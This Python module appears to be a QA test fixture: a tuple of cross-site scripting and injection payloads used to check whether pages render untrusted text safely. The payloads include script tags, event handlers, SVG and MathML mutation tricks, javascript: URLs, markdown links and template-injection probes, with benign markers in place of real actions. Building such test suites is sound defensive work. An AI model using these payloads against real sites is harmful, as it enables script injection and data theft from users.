"""Texts that have run scripts or loaded things on pages that were not careful enough."""

from typing import Final

MARK: Final = "qafilesXss"
"""The global name that every payload would set, and the host that every load would ask."""

PAYLOADS: Final = tuple(
    line.replace("XSS", f"window.{MARK}=1").replace("HOST", f"{MARK}.example")
    for line in """
<script>XSS</script>
<ScRiPt >XSS</sCrIpT>
</title><script>XSS</script>
</style><script>XSS</script>
</script><script>XSS</script>
</textarea><script>XSS</script>
--><script>XSS</script>
]]><script>XSS</script>
<script src=https://HOST/x.js></script>
<script src=//HOST/x.js></script>
<img src=x onerror=XSS>
<img src=x onerror="XSS"
<img src=https://HOST/x.png>
<img srcset="https://HOST/x.png 2x">
"><img src=x onerror=XSS>
'><img src=x onerror=XSS>
" onmouseover="XSS" x="
' autofocus onfocus='XSS
" onfocus="XSS" autofocus="
<svg onload=XSS>
<svg><script>XSS</script></svg>
<svg><animate onbegin=XSS attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>XSS</script></svg>#x"></use></svg>
<svg><style><img src=x onerror=XSS></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=XSS></style></mglyph></table></mtext></math>
<body onload=XSS>
<iframe src="javascript:XSS"></iframe>
<iframe srcdoc="<script>parent.XSS</script>"></iframe>
<object data="javascript:XSS"></object>
<embed src="javascript:XSS">
<link rel=stylesheet href=https://HOST/x.css>
<style>@import "https://HOST/x.css";</style>
<style>*{background:url(https://HOST/x.png)}</style>
<div style="background:url(https://HOST/x.png)">
<base href=https://HOST/>
<meta http-equiv=refresh content="0;url=https://HOST/">
<meta http-equiv=refresh content="0;url=javascript:XSS">
<form action="javascript:XSS"><button autofocus>x</button></form>
<input autofocus onfocus=XSS>
<details open ontoggle=XSS>
<video src=x onerror=XSS></video>
<audio src=https://HOST/x.mp3 autoplay></audio>
<marquee onstart=XSS>
<a href="javascript:XSS">x</a>
javascript:XSS
JaVaScRiPt:XSS
java&#10;script:XSS
data:text/html,<script>XSS</script>
[x](javascript:XSS)
[x](  javascript&colon;XSS)
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](https://HOST/x.png)
![x](javascript:XSS)
![x"onerror="XSS](x)
<javascript:XSS>
[x]: javascript:XSS
{{ "".__class__ }}
{{ self.__init__.__globals__ }}
{% for x in [1] %}XSS{% endfor %}
${XSS}
`-XSS-`
';XSS;//
";XSS;//
\\u003cscript>XSS\\u003c/script>
<!--<script>XSS-->
<noscript><p title="</noscript><img src=x onerror=XSS>">
<template><script>XSS</script></template>
&lt;script&gt;XSS&lt;/script&gt;
%3Cscript%3EXSS%3C/script%3E
<x onclick=XSS tabindex=0 autofocus onfocus=XSS>
""".strip().splitlines()
)
